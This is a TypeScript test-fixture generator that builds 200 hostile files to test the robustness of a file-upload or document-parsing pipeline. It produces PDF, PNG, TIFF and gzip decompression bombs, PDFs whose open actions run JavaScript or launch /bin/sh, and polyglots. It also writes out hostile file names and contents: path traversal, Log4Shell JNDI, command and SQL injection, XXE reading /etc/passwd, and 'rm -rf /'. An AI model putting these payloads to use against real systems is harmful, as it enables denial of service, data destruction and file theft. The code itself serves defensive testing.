import { constants, crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import sharp from "sharp";

export interface Hostile {
  what: string;
  fileName: string;
  bytes: Buffer;
}

/** 200 files of every kind and of none, some made to hurt; the same each time. */
export async function hostileFiles(): Promise<Hostile[]> {
  const good = await goodFiles();
  const files = [
    ...bombs(),
    ...(await structures()),
    ...(await active()),
    ...polyglots(good),
    ...names(good.png),
    ...kinds(),
    ...truncated(good),
    ...flipped(good),
  ];
  for (let at = 0; files.length < 200; at++)
    files.push({
      what: `random bytes ${at}`,
      fileName: `ngẫu-nhiên-${at}`,
      bytes: noise(1 + 37 * at * at, at + 900),
    });
  return files.slice(0, 200);
}

type Good = Record<"pdf" | "png" | "jpeg" | "tiff", Buffer>;

async function goodFiles(): Promise<Good> {
  const [width, height] = [850, 1100];
  const rows = Array.from({ length: height }, (_, row) => Buffer.alloc(width, row % 30 < 6 ? 40 : 240));
  const sheet = sharp(Buffer.concat(rows), { raw: { width, height, channels: 1 } });
  return {
    pdf: await pdf(),
    png: await sheet.clone().png().toBuffer(),
    jpeg: await sheet.clone().jpeg().toBuffer(),
    tiff: await sheet.clone().tiff({ compression: "lzw" }).toBuffer(),
  };
}

async function pdf(change: (document: PDFDocument) => unknown = () => undefined, useObjectStreams = false) {
  const document = await PDFDocument.create();
  document.addPage([595, 842]).drawLine({ start: { x: 50, y: 700 }, end: { x: 500, y: 700 } });
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

/** Numbers that look random and are the same each time. */
function noise(length: number, seed: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = (seed * 2_654_435_761 + 1) >>> 0;
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[at] = state >>> 24;
  }
  return bytes;
}

/** `megabytes` of blanks, packed to a thousandth. */
function packed(megabytes: number): Buffer {
  const one = deflateRawSync(Buffer.alloc(1_000_000, " "), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([Buffer.from("789c", "hex"), ...Array<Buffer>(megabytes).fill(one)]);
}

function bombs(): Hostile[] {
  const raw = (before: string, data: Buffer) =>
    Buffer.concat([
      Buffer.from(
        `%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${before} /Length ${data.length} >>\nstream\n`,
      ),
      data,
      Buffer.from("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"),
    ]);
  const page =
    "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n4 0 obj\n<<";
  const twice = deflateSync(packed(400));
  const png = (width: number, height: number, data: Buffer, interlaced = 0) =>
    file("PNG bomb", "ảnh.png", pngOf(width, height, data, interlaced));
  return [
    file(
      "an object stream of 1.5 GB",
      "bom.pdf",
      raw("5 0 obj\n<< /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode", packed(1500)),
    ),
    file("a page's content of 1 GB", "bom2.pdf", raw(`${page} /Filter /FlateDecode`, packed(1000))),
    file("a content packed twice", "bom3.pdf", raw(`${page} /Filter [/FlateDecode /FlateDecode]`, twice)),
    file(
      "a cross-reference stream of 800 MB",
      "bom4.pdf",
      raw("5 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Filter /FlateDecode", packed(800)),
    ),
    file("a gzip of a gzip", "bom.gz", gzipSync(gzipSync(Buffer.alloc(20_000_000)))),
    png(100_000, 100_000, deflateSync(Buffer.alloc(1000))),
    png(12_000, 12_000, packed(140)),
    png(12_000, 12_000, packed(140), 1),
    png(2_000, 2_000, packed(1_200)),
    file("a TIFF of 100,000 × 100,000", "lớn.tif", tiffOf(100_000, 100_000, 1)),
    file("a TIFF whose directory leads to itself", "vòng.tif", tiffOf(100, 100, 1, 8)),
    file("a TIFF of 5,000 directories", "sách.tif", tiffBook(5_000)),
    file("a JPEG of 65,535 × 65,535", "lớn.jpg", jpegOf(65_535, 65_535)),
    file("a JPEG of 30,000 × 5,000 without content", "dài.jpg", jpegOf(30_000, 5_000)),
  ];
}

async function structures(): Promise<Hostile[]> {
  const whole = (await pdf()).toString("latin1");
  const altered = (what: string, change: (text: string) => string) =>
    file(what, `${what}.pdf`, Buffer.from(change(whole), "latin1"));
  return [
    altered("arrays nested 200,000 deep", (text) =>
      text.replace("/Pages", `/X ${"[".repeat(200_000)} /Pages`),
    ),
    altered("dictionaries nested 100,000 deep", (text) =>
      text.replace("/Pages", `/X ${"<</A".repeat(100_000)} /Pages`),
    ),
    altered("closed arrays nested 50,000 deep", (text) =>
      text.replace("/Pages", `/X ${"[".repeat(50_000)}${"]".repeat(50_000)} /Pages`),
    ),
    altered("a page tree that leads to itself", (text) =>
      text.replace(/\/Kids \[[^\]]*\]/, (kids) => kids.replace(/\d+ 0 R/, "1 0 R")),
    ),
    altered("a count of 2 billion pages", (text) => text.replace(/\/Count 1/, "/Count 2000000000")),
    altered("a count below zero", (text) => text.replace(/\/Count 1/, "/Count -1")),
    altered("no pages", (text) => text.replace(/\/Kids \[[^\]]*\]/, "/Kids []")),
    altered("a reference to nothing", (text) =>
      text.replace(/\/Contents \[?\s*\d+ 0 R/, "/Contents [ 999999 0 R"),
    ),
    altered("a content that is itself", (text) =>
      text.replace(/\/Contents \[?\s*\d+ 0 R/, "/Contents [ 1 0 R"),
    ),
    altered("a box without end", (text) =>
      text.replace(/\/MediaBox \[[^\]]*\]/, "/MediaBox [0 0 1e99 1e99]"),
    ),
    altered("a box of words", (text) =>
      text.replace(/\/MediaBox \[[^\]]*\]/, "/MediaBox [(a) /b null true]"),
    ),
    altered("60,000 objects", (text) =>
      text.replace(
        "xref",
        `${Array.from({ length: 60_000 }, (_, at) => `${at + 100} 0 obj\n<< >>\nendobj\n`).join("")}xref`,
      ),
    ),
    altered("a string without end", (text) => text.replace("/Pages", `/X (${"(".repeat(80_000)} /Pages`)),
    altered("a name of 1 MB", (text) => text.replace("/Pages", `/X /${"A".repeat(1_000_000)} /Pages`)),
    altered("a number of 1 MB", (text) => text.replace("/Pages", `/X ${"9".repeat(1_000_000)} /Pages`)),
    altered("a length that lies", (text) => text.replace(/\/Length \d+/, "/Length 99999999")),
    altered("a length below zero", (text) => text.replace(/\/Length \d+/, "/Length -5")),
    altered("encrypted, it says", (text) =>
      text.replace("/Root", "/Encrypt << /Filter /Standard /V 5 >> /Root"),
    ),
    altered("a hundred thousand per cent signs", (text) => `%PDF-1.7\n${"%\n".repeat(100_000)}${text}`),
    altered("two catalogues", (text) => text + text),
  ];
}

async function active(): Promise<Hostile[]> {
  const act = (action: Record<string, PDFName | PDFString>, packedObjects: boolean) =>
    pdf(
      (document) => document.catalog.set(PDFName.of("OpenAction"), document.context.obj(action)),
      packedObjects,
    );
  const made: Hostile[] = [];
  for (const isPacked of [true, false])
    for (const [name, action] of Object.entries({
      JavaScript: { S: PDFName.of("JavaScript"), JS: PDFString.of("while(true);") },
      Launch: { S: PDFName.of("Launch"), F: PDFString.of("/bin/sh") },
      ImportData: { S: PDFName.of("ImportData"), F: PDFString.of("a.fdf") },
      GoToE: { S: PDFName.of("GoToE"), F: PDFString.of("a.pdf") },
    }))
      made.push(file(`${name}, packed: ${isPacked}`, `${name}.pdf`, await act(action, isPacked)));
  made.push(
    file(
      "an embedded program",
      "kèm.pdf",
      await pdf((document) => document.attach(noise(500, 3), "a.exe", { mimeType: "a/b" })),
    ),
    file(
      "an XFA form",
      "xfa.pdf",
      await pdf((document) =>
        document.catalog.set(
          PDFName.of("AcroForm"),
          document.context.obj({ Fields: [], XFA: PDFString.of("<xdp/>") }),
        ),
      ),
    ),
  );
  return made;
}

function polyglots({ pdf: paper, png, jpeg, tiff }: Good): Hostile[] {
  const html = Buffer.from("<html><script>alert(1)</script></html>");
  const zip = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), noise(300, 8)]);
  const join = (what: string, ...parts: Buffer[]) => file(what, `${what}.pdf`, Buffer.concat(parts));
  return [
    join("HTML, then PDF", html, paper),
    join("PDF, then HTML", paper, html),
    join("ZIP, then PDF", zip, paper),
    join("PDF, then ZIP", paper, zip),
    join("JPEG, then PDF", jpeg, paper),
    join("PDF, then JPEG", paper, jpeg),
    join("PNG, then HTML", png, html),
    join("PNG, then ZIP", png, zip),
    join("JPEG, then a program", jpeg, Buffer.from("MZ"), noise(2_000, 4)),
    join("TIFF, then PDF", tiff, paper),
    join("GIF and script", Buffer.from("GIF89a/*"), noise(100, 1), Buffer.from("*/=1;alert(1)")),
    join(
      "an empty ZIP over a PDF",
      paper,
      Buffer.from("504b0506000000000000000000000000000000000000", "hex"),
    ),
    join("a hundred blanks, then PDF", Buffer.alloc(100, " "), paper),
    join("two kilobytes of noise, then PDF", noise(2_000, 5), paper),
  ];
}

/** Good pictures with names that lead elsewhere. */
function names(png: Buffer): Hostile[] {
  return [
    ...[
      "../../../../etc/passwd",
      "..\\..\\..\\windows\\system32\\a.dll",
      "/etc/cron.d/a",
      "C:\\a.png",
      "....//....//a",
    ],
    ...[
      "a\u0000.png",
      "\u0000",
      "a".repeat(500),
      "ẵ".repeat(500),
      `${"../".repeat(200)}a`,
      "\u202egnp.exe",
      "a\u200b\u200f\ufeffb.png",
    ],
    ...[
      ".",
      "..",
      " ",
      "con",
      "nul.png",
      "a\r\nSet-Cookie: b=c\r\n.png",
      'a".png; filename="b',
      "%2e%2e%2f%2e%2e%2fa",
      "💥.png",
      "<img src=x onerror=alert(1)>",
    ],
    ...[
      "'; drop table files; --",
      "${jndi:ldap://a/b}",
      "$(touch /tmp/x)",
      "`id`",
      "-rf",
      "file://etc/passwd",
      "a\tb\u0007c.png",
      "\ud800.png",
    ],
  ].map((fileName, at) =>
    // Not the same bytes twice: each is a file of its own.
    file(`a name: ${JSON.stringify(fileName).slice(0, 40)}`, fileName, Buffer.concat([png, Buffer.of(at)])),
  );
}

function kinds(): Hostile[] {
  const heads: Record<string, string> = {
    pdf: "%PDF-1.7\n",
    png: "\x89PNG\r\n\x1a\n",
    jpg: "\xff\xd8\xff\xe0",
    tif: "II*\0",
    tif2: "MM\0*",
    gif: "GIF89a",
    bmp: "BM",
    webp: "RIFF\0\0\0\0WEBPVP8 ",
    zip: "PK\x03\x04",
    exe: "MZ\x90\0",
    elf: "\x7fELF",
    rtf: "{\\rtf1",
    html: "<!doctype html>",
    svg: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    xml: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ps: "%!PS-Adobe-3.0\n(/etc/passwd) run\n",
    mvg: "push graphic-context\nfill 'url(https://127.0.0.1/)'\n",
    gz: "\x1f\x8b\x08",
    rar: "Rar!\x1a\x07",
    "7z": "7z\xbc\xaf\x27\x1c",
    mp4: "\0\0\0\x18ftypmp42",
    class: "\xca\xfe\xba\xbe",
    heic: "\0\0\0\x18ftypheic",
    jxl: "\xff\x0a",
    jp2: "\0\0\0\x0cjP  \r\n\x87\n",
    psd: "8BPS",
    ico: "\0\0\x01\0",
    txt: "Kính gửi",
    sh: "#!/bin/sh\nrm -rf /\n",
    eml: "From: a\r\n\r\n",
  };
  return Object.entries(heads).map(([kind, head], at) =>
    file(
      `only looks like ${kind}`,
      `tệp.${kind}`,
      Buffer.concat([Buffer.from(head, "latin1"), noise(600, at)]),
    ),
  );
}

function truncated(good: Good): Hostile[] {
  return Object.entries(good).flatMap(([kind, bytes]) =>
    [0, 1, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99].map((share) =>
      file(
        `${kind} cut at ${share}`,
        `cắt.${kind}`,
        bytes.subarray(0, share === 1 ? 1 : Math.floor(bytes.length * share)),
      ),
    ),
  );
}

function flipped(good: Good): Hostile[] {
  return Object.entries(good).flatMap(([kind, bytes], row) =>
    Array.from({ length: 10 }, (_, at) => {
      const changed = Buffer.from(bytes);
      const places = noise(20, row * 50 + at);
      for (let i = 0; i < places.length; i += 2) {
        const where = Math.floor((((places[i] ?? 0) * 256 + (places[i + 1] ?? 0)) / 65_536) * changed.length);
        changed[where] = (changed[where] ?? 0) ^ (1 << (i % 8));
      }
      return file(`${kind} with bits flipped ${at}`, `lật.${kind}`, changed);
    }),
  );
}

const file = (what: string, fileName: string, bytes: Buffer): Hostile => ({ what, fileName, bytes });

function pngOf(width: number, height: number, data: Buffer, interlaced: number): Buffer {
  const chunk = (type: string, body: Buffer) => {
    const named = Buffer.concat([Buffer.from(type, "latin1"), body]);
    const framed = Buffer.alloc(named.length + 8);
    framed.writeUInt32BE(body.length);
    named.copy(framed, 4);
    framed.writeUInt32BE(crc32(named), named.length + 4);
    return framed;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, interlaced], 8);
  const start = Buffer.from("89504e470d0a1a0a", "hex");
  return Buffer.concat([start, chunk("IHDR", head), chunk("IDAT", data), chunk("IEND", Buffer.alloc(0))]);
}

function jpegOf(width: number, height: number): Buffer {
  const word = (n: number) => n.toString(16).padStart(4, "0");
  return Buffer.from(
    `ffd8ffe000104a46494600010100000100010000ffc0000b08${word(height)}${word(width)}01011100ffda0008010100003f00d2cf20ffd9`,
    "hex",
  );
}

/** One directory: width, height, bits, no compression, one strip. `next` is where the next directory lies. */
function directory(width: number, height: number, next: number): Buffer {
  const entries: [tag: number, value: number][] = [
    [256, width],
    [257, height],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 8],
    [277, 1],
    [278, height],
    [279, Math.min(width * height, 100)],
  ];
  const bytes = Buffer.alloc(2 + entries.length * 12 + 4);
  bytes.writeUInt16LE(entries.length, 0);
  entries.forEach(([tag, value], at) => {
    bytes.writeUInt16LE(tag, 2 + at * 12);
    bytes.writeUInt16LE(4, 4 + at * 12);
    bytes.writeUInt32LE(1, 6 + at * 12);
    bytes.writeUInt32LE(value, 10 + at * 12);
  });
  bytes.writeUInt32LE(next, 2 + entries.length * 12);
  return bytes;
}

const tiffHead = Buffer.from("49492a0008000000", "hex");

function tiffOf(width: number, height: number, _pages: number, next = 0): Buffer {
  return Buffer.concat([tiffHead, directory(width, height, next), Buffer.alloc(200)]);
}

function tiffBook(pages: number): Buffer {
  const size = directory(1, 1, 0).length;
  return Buffer.concat([
    tiffHead,
    ...Array.from({ length: pages }, (_, at) =>
      directory(100, 100, at + 1 === pages ? 0 : 8 + (at + 1) * size),
    ),
  ]);
}
